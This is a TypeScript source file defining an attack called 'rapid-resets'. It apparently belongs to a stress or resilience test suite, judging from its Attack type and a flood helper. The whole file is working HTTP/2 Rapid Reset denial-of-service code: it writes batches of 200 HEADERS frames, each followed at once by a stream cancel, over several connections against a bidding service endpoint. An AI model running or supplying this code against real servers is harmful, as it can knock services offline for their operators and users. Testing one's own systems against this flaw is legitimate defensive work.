import type { Attack } from './attack.ts'
import { flood } from './flood.ts'
import { END_HEADERS, frame, headerBlock, requestHeaders, streamId } from './raw-http2.ts'

const PER_WRITE = 200
const CANCEL = Buffer.from([0, 0, 0, 8])

const block = headerBlock(requestHeaders('/bids.v1.BidService/ListItems', 'application/json'))

export const rapidResets: Attack = {
  name: 'rapid-resets',
  description: 'Requests on 4 HTTP/2 connections, each reset in the packet that began it',
  run: (context) =>
    flood(context, (turn) =>
      Buffer.concat(
        Array.from({ length: PER_WRITE }, (_, index) => {
          const id = streamId(turn * PER_WRITE + index)
          return Buffer.concat([
            frame('headers', END_HEADERS, id, block),
            frame('resetStream', 0, id, CANCEL),
          ])
        }),
      ),
    ),
}
